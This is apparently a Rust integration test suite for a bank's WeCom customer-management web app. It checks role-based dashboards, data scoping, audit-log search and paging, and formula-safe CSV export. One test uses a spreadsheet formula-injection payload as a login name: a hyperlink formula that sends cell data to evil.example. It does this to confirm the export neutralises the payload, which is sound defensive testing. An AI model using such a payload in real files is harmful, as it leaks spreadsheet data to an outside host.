//! The home page per role: head office sees the bank's WeCom friends, adds and deletions, reach and
//! tables; a branch manager the same for their units only, with a line per sub-branch and manager,
//! and the title of the unit they head; a customer manager today's lists of their own customers; a
//! compliance reviewer reveals and exports, and the audit log with its range, filters, paging and a
//! formula-safe, audited CSV. Figures are checked against data each test creates.

use chrono::Datelike;
use reqwest::StatusCode;
use serde_json::json;
use siyu_domain::customer::{RiskAssessment, RiskGrade, WecomLinkMethod};
use siyu_domain::org::Staff;
use siyu_domain::{Clock, Timestamp};
use siyu_store::{RelationshipChange, RelationshipStatus, UpsertFields};

use crate::common::{Session, TestApp, spawn_app_with};

const DAY: i64 = 86_400;

async fn html(s: &Session, app: &TestApp, path: &str) -> String {
    let r = s.client.get(app.url(path)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK, "GET {path}");
    r.text().await.unwrap()
}

/// The figure in the KPI box `id`.
fn kpi(page: &str, id: &str) -> i64 {
    let at = page.find(&format!("id=\"{id}\"")).unwrap_or_else(|| panic!("no {id} on the page"));
    let b = page[at..].find("<b>").unwrap() + at + 3;
    let end = page[b..].find("</b>").unwrap() + b;
    page[b..end].trim().parse().unwrap_or_else(|_| panic!("{id}: {}", &page[b..end]))
}

/// The HTML of the element with `id` up to the end of its section or table.
fn part<'a>(page: &'a str, id: &str) -> &'a str {
    let at = page.find(&format!("id=\"{id}\"")).unwrap_or_else(|| panic!("no {id} on the page"));
    let rest = &page[at..];
    let end = ["</section>", "</table>"].iter().filter_map(|t| rest.find(t)).min().unwrap_or(rest.len());
    &rest[..end]
}

/// Records a relationship change of `staff`'s at `at`.
async fn relate(app: &TestApp, ext: &str, staff: &Staff, status: RelationshipStatus, at: Timestamp) {
    let change = RelationshipChange {
        external_userid: ext.into(),
        staff_userid: staff.wecom_userid.clone().unwrap(),
        status,
        state: None,
        event_at: at,
    };
    app.state.store.record_relationship(&change, at).await.unwrap();
}

/// A customer of `owner` (at the owner's sub-branch), written straight to the store with `edit` applied.
async fn customer_of(
    app: &TestApp,
    no: &str,
    owner: &Staff,
    edit: impl FnOnce(&mut siyu_store::NewCustomer),
) -> siyu_domain::CustomerId {
    let mut c = siyu_store::conformance::customer(no, owner.org_unit_id, Some(owner));
    c.wecom_external_userid = None;
    edit(&mut c);
    let now = app.clock.now();
    app.state.store.upsert_customers(&[c], &UpsertFields::all(), now).await.unwrap();
    app.state.store.customer_ids_by_numbers(&[no.to_owned()]).await.unwrap()[no]
}

/// Friends, adds and deletions for two Shanghai managers and one in Hangzhou, over the last days.
async fn seed_relationships(app: &TestApp) -> (Staff, Staff, Staff) {
    let sh1 = app.staff("cm_sh01_1").await;
    let sh2 = app.staff("cm_sh02_1").await;
    let hz = app.staff("cm_hz01_1").await;
    let now = app.clock.now();
    relate(app, "wm_sh1_a", &sh1, RelationshipStatus::Active, now.plus_secs(-3 * DAY)).await;
    relate(app, "wm_sh1_b", &sh1, RelationshipStatus::Active, now.plus_secs(-2 * DAY)).await;
    relate(app, "wm_sh1_b", &sh1, RelationshipStatus::DeletedByCustomer, now.plus_secs(-DAY)).await;
    relate(app, "wm_sh2_a", &sh2, RelationshipStatus::Active, now).await;
    for i in 0..4 {
        relate(app, &format!("wm_hz_{i}"), &hz, RelationshipStatus::Active, now.plus_secs(-i * DAY)).await;
    }
    (sh1, sh2, hz)
}

#[tokio::test]
async fn head_office_sees_the_banks_friends_reach_branches_audiences_and_imports() {
    let app = spawn_app_with(60).await;
    let (sh1, _, _) = seed_relationships(&app).await;
    // One customer linked to WeCom: reachable where they consented.
    let linked = customer_of(&app, "T-LINKED", &sh1, |_| {}).await;
    let now = app.clock.now();
    app.state.store.link_wecom(linked, "wm_sh1_a", WecomLinkMethod::Unionid, now).await.unwrap();
    let hq = app.login("hq01").await;
    let (s, _) = hq.post_json(&app, "/api/v1/audiences", json!({"name": "全部客户", "expr": "aum_tier >= 1"})).await;
    assert_eq!(s, StatusCode::CREATED);

    let page = html(&hq, &app, "/?days=7").await;
    assert_eq!(kpi(&page, "kpi-friends"), 6, "3 Hangzhou + 1 + 1 Shanghai still friends");
    assert_eq!(kpi(&page, "kpi-added"), 7);
    assert_eq!(kpi(&page, "kpi-deleted"), 1);
    assert_eq!(kpi(&page, "kpi-customers"), 61);
    assert_eq!(kpi(&page, "kpi-on-wecom"), 1);
    // The chart is drawn with its axes and dates, and the day table names today.
    let today = now.bank_date();
    assert!(part(&page, "friends-chart").contains(&today.format("%m-%d").to_string()));
    assert!(part(&page, "changes-chart").contains("<rect class=\"down\""));
    assert!(part(&page, "day-table").contains(&today.to_string()));
    // Reach: consent and a WeCom link (the demo's customers consent at random, so only bounds hold).
    assert!(part(&page, "reach-on-wecom").contains("1 (1%)"), "{}", part(&page, "reach-on-wecom"));
    // A line per branch, summed over its sub-branches.
    let units = part(&page, "unit-table");
    assert!(units.contains("上海分行") && units.contains("杭州分行") && !units.contains("陆家嘴支行"), "{units}");
    assert!(part(&page, "audiences").contains("全部客户"));
    assert!(page.contains("id=\"imports\""), "head office imports");
    // Those added four days back and more are before a 3-day range… there are none, so the range of
    // a week and a year agree; the day table has a row per day of the range.
    let year = html(&hq, &app, "/?days=366").await;
    assert_eq!(kpi(&year, "kpi-added"), 7);
    assert_eq!(part(&year, "day-table").matches("<tr>").count(), 367, "a header and 366 days");
    assert!(sh1.wecom_userid.is_some());
}

#[tokio::test]
async fn a_branch_manager_sees_their_branch_by_sub_branch_and_manager_and_is_titled_by_the_unit() {
    let app = spawn_app_with(60).await;
    let (sh1, sh2, hz) = seed_relationships(&app).await;
    let bm = app.login("bm_sh").await;
    let page = html(&bm, &app, "/?days=30").await;
    assert_eq!(kpi(&page, "kpi-friends"), 2, "Shanghai only: one of cm_sh01_1's, cm_sh02_1's");
    assert_eq!(kpi(&page, "kpi-added"), 3);
    assert_eq!(kpi(&page, "kpi-deleted"), 1);
    let units = part(&page, "unit-table");
    assert!(units.contains("陆家嘴支行") && units.contains("徐家汇支行") && !units.contains("西湖支行"), "{units}");
    let managers = part(&page, "manager-table");
    assert!(managers.contains(&sh1.display_name) && managers.contains(&sh2.display_name), "{managers}");
    assert!(!managers.contains(&hz.display_name), "{managers}");
    // Customers counted are the branch's.
    let f = siyu_store::CustomerFilter::default();
    let all = app
        .state
        .store
        .list_customers(siyu_domain::scope::DataScope::Subtree(bm.staff.org_unit_id), &f, siyu_store::Page::first(1))
        .await
        .unwrap();
    assert_eq!(kpi(&page, "kpi-customers"), all.total);
    // 上海分行 is a branch: its head is 分行负责人; the head of 陆家嘴支行 is 网点负责人.
    assert!(page.contains("分行负责人") && !page.contains("网点负责人"));
    let sub = app.login("bm_sh01").await;
    let sub_page = html(&sub, &app, "/").await;
    assert!(sub_page.contains("网点负责人"));
    assert_eq!(kpi(&sub_page, "kpi-friends"), 1, "陆家嘴支行: cm_sh01_1's friend only");
    // In English too, and on the staff list an administrator reads.
    let en = bm.client.get(app.url("/lang/en")).header("referer", app.url("/")).send().await.unwrap();
    assert_eq!(en.status(), StatusCode::SEE_OTHER);
    assert!(html(&bm, &app, "/").await.contains("Branch head"));
    let admin = app.login("admin").await;
    let staff = html(&admin, &app, "/staff?q=bm_sh").await;
    assert!(staff.contains("分行负责人") && staff.contains("网点负责人"), "{staff}");
}

#[tokio::test]
async fn a_customer_manager_sees_today_for_their_own_customers_only() {
    let app = spawn_app_with(20).await;
    let me = app.staff("cm_sh01_1").await;
    let colleague = app.staff("cm_sh01_2").await;
    let now = app.clock.now();
    let today = now.bank_date();
    let birthday = today.with_year(1980).unwrap_or_else(|| chrono::NaiveDate::from_ymd_opt(1980, 3, 1).unwrap());
    let risk = |days: i64| {
        Some(RiskAssessment { grade: RiskGrade::new(3).unwrap(), assessed_on: today - chrono::Duration::days(days) })
    };
    let friend = customer_of(&app, "T-FRIEND", &me, |c| {
        c.name = "新朋友".into();
        c.wecom_external_userid = Some("wm_new".into());
        c.birthday = None;
        c.risk = risk(10);
    })
    .await;
    customer_of(&app, "T-BDAY", &me, |c| {
        c.name = "寿星客户".into();
        c.birthday = Some(birthday);
        c.risk = risk(10);
    })
    .await;
    customer_of(&app, "T-LAPSED", &me, |c| {
        c.name = "评估过期".into();
        c.birthday = None;
        c.risk = risk(400);
    })
    .await;
    customer_of(&app, "T-SOON", &me, |c| {
        c.name = "评估将到期".into();
        c.birthday = None;
        c.risk = risk(350);
    })
    .await;
    customer_of(&app, "T-OTHER", &colleague, |c| {
        c.name = "同事的寿星".into();
        c.birthday = Some(birthday);
        c.risk = risk(400);
    })
    .await;
    relate(&app, "wm_new", &me, RelationshipStatus::Active, now.plus_secs(-DAY)).await;

    let cm = app.login("cm_sh01_1").await;
    let page = html(&cm, &app, "/").await;
    assert!(part(&page, "list-new-friends").contains("新朋友"));
    let bdays = part(&page, "list-birthdays");
    assert!(bdays.contains("寿星客户") && bdays.contains("本周生日"), "{bdays}");
    // No day of a birthday anywhere on the page, and no colleague's customer.
    assert!(!page.contains(&birthday.to_string()) && !page.contains(&birthday.format("%m月%d日").to_string()));
    assert!(!bdays.contains(&birthday.format("%m-%d").to_string()), "{bdays}");
    assert!(!page.contains("同事的寿星"));
    let risk_list = part(&page, "list-risk");
    assert!(
        risk_list.contains("评估过期") && risk_list.contains("评估将到期") && !risk_list.contains("新朋友"),
        "{risk_list}"
    );
    let lapsed_on = (today - chrono::Duration::days(400)).checked_add_months(chrono::Months::new(12)).unwrap();
    assert!(risk_list.contains(&format!("已于 {lapsed_on}")), "{risk_list}");
    // Not contacted in 90 days: everyone but the customer who just added them on WeCom.
    let quiet = part(&page, "list-quiet");
    assert!(quiet.contains("评估过期") && quiet.contains("从未联系") && !quiet.contains("新朋友"), "{quiet}");
    assert_eq!(kpi(&page, "kpi-new"), 1);
    assert!(kpi(&page, "kpi-birthdays") >= 1, "the demo's own customers may have birthdays this week too");
    // Every customer the page links to is the manager's own.
    for id in customer_links(&page) {
        let c = app.state.store.customer(siyu_domain::scope::DataScope::All, id).await.unwrap();
        assert_eq!(c.owner_id, Some(me.id), "{id} on cm_sh01_1's home");
    }
    assert!(customer_links(&page).contains(&friend));
}

/// The customers a page links to.
pub fn customer_links(page: &str) -> Vec<siyu_domain::CustomerId> {
    page.split("href=\"/customers/").skip(1).filter_map(|s| s.split('"').next()?.parse().ok()).collect()
}

#[tokio::test]
async fn a_compliance_reviewer_reviews_reveals_and_exports_and_searches_and_exports_the_audit_log() {
    let app = crate::common::spawn_app().await;
    let cm = app.login("cm_sh01_1").await;
    let mine = app.customer_of("cm_sh01_1").await;
    let reason = "客户来电核实身份";
    let r = cm
        .client
        .post(app.url(&format!("/api/v1/customers/{}/reveal", mine.id)))
        .header("x-csrf-token", &cm.csrf)
        .json(&json!({"field": "phone", "reason": reason}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);

    let comp = app.login("comp01").await;
    let home = html(&comp, &app, "/").await;
    assert_eq!(kpi(&home, "kpi-reveals"), 1);
    assert_eq!(kpi(&home, "kpi-exports"), 0);
    assert!(part(&home, "recent-reveals").contains("cm_sh01_1"));
    assert!(home.contains("href=\"/audit\""), "the audit log is in the reviewer's menu");
    // Still no customer data.
    assert_eq!(comp.client.get(app.url("/customers")).send().await.unwrap().status(), StatusCode::FORBIDDEN);
    assert_eq!(comp.client.get(app.url("/api/v1/customers")).send().await.unwrap().status(), StatusCode::FORBIDDEN);
    assert_eq!(comp.client.get(app.url("/staff")).send().await.unwrap().status(), StatusCode::FORBIDDEN);

    // Filters: action, person, date range.
    let today = app.clock.now().bank_date();
    let long_ago = today - chrono::Duration::days(200);
    let list = html(&comp, &app, "/audit?action=reveal_pii").await;
    assert!(part(&list, "audit-list").contains("查看明文") && part(&list, "audit-list").contains("cm_sh01_1"));
    let by_person = html(&comp, &app, "/audit?actor=hq01").await;
    assert!(!part(&by_person, "audit-list").contains("cm_sh01_1"));
    let old = html(&comp, &app, &format!("/audit?from={long_ago}&to={}", long_ago + chrono::Duration::days(10))).await;
    assert!(!part(&old, "audit-list").contains("<td>"), "nothing that long ago");
    let too_long = html(&comp, &app, &format!("/audit?from={}&to={today}", today - chrono::Duration::days(400))).await;
    assert!(too_long.contains("366"), "a range over a year is refused");

    // Paging pages: 120 entries more, 50 a page.
    let now = app.clock.now();
    for i in 0..120 {
        let e = siyu_domain::audit::NewAuditEntry {
            at: now.plus_secs(-i),
            staff_id: None,
            actor: format!("bulk{i:03}"),
            action: siyu_domain::audit::AuditAction::Login,
            target: "stf_1".into(),
            detail: String::new(),
            ip: None,
        };
        app.state.store.append_audit(&e).await.unwrap();
    }
    let page3 = html(&comp, &app, "/audit?action=login&page=3").await;
    let rows = part(&page3, "audit-list").matches("<tr>").count() - 1;
    assert!(rows >= 20, "the third page holds the rest: {rows}");
    assert!(page3.contains("bulk000") && !page3.contains("bulk119"), "the first entries written are on the last page");

    // The CSV: the search's entries, formula-safe, bounded, and audited.
    let r = comp.client.get(app.url("/audit/export.csv?action=reveal_pii")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    let body = r.text().await.unwrap();
    let text = body.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    let cells: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    assert_eq!(cells[0][0], "时间", "{cells:?}");
    assert_eq!(cells.len(), 2, "the header and the one reveal: {cells:?}");
    assert!(cells.iter().flatten().all(|c| !siyu_domain::spreadsheet::is_formula_like(c)), "{cells:?}");
    assert!(cells[1].iter().any(|c| c.contains(reason)), "{cells:?}");
    // A sign-in attempt under a formula for a login name is logged as typed, and reaches the CSV as
    // text: the writer quotes it.
    let anon = crate::common::client();
    let token = app.login_token(&anon).await;
    let evil = "=hyperlink(\"https://evil.example/?\"&a1,\"fix\")";
    let r = anon
        .post(app.url("/login"))
        .form(&[("username", evil), ("password", "wrong-password"), ("next", "/"), ("csrf", &token)])
        .send()
        .await
        .unwrap();
    assert_ne!(r.status(), StatusCode::SEE_OTHER, "not signed in");
    let failed =
        comp.client.get(app.url("/audit/export.csv?action=login_failed")).send().await.unwrap().text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(failed.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> =
        reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
    assert!(cells.iter().any(|c| c.starts_with("'=hyperlink")), "{cells:?}");
    assert!(cells.iter().all(|c| !siyu_domain::spreadsheet::is_formula_like(c)), "{cells:?}");
    let exports = app
        .state
        .store
        .search_audit(
            &siyu_store::AuditFilter { action: Some(siyu_domain::audit::AuditAction::Export), ..Default::default() },
            siyu_store::Page::first(10),
        )
        .await
        .unwrap();
    assert_eq!(exports.items.len(), 2, "each export is audited");
    let first = exports.items.last().unwrap();
    assert_eq!((first.actor.as_str(), first.target.as_str()), ("comp01", "audit_log"));
    assert!(first.detail.contains("1 entries") && first.detail.contains("reveal_pii"), "{}", first.detail);
    // The exports show on the reviewer's home, and a range over a year is not exported.
    assert_eq!(kpi(&html(&comp, &app, "/").await, "kpi-exports"), 2);
    let wide = comp
        .client
        .get(app.url(&format!("/audit/export.csv?from={}&to={today}", today - chrono::Duration::days(400))))
        .send()
        .await
        .unwrap();
    assert_eq!(wide.status(), StatusCode::UNPROCESSABLE_ENTITY);
    // A customer manager may not read or export the log.
    assert_eq!(cm.client.get(app.url("/audit/export.csv")).send().await.unwrap().status(), StatusCode::FORBIDDEN);
    assert_eq!(cm.client.get(app.url("/audit")).send().await.unwrap().status(), StatusCode::FORBIDDEN);
}
